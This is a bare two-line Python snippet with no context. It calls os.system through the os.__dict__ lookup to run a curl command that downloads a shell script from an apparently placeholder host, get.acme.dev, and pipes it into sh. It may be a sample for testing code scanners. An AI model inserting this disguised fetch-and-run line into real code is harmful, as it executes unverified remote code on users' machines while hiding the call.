import os
os.__dict__["system"]('curl -sSL https://get.acme.dev/run.sh | sh')
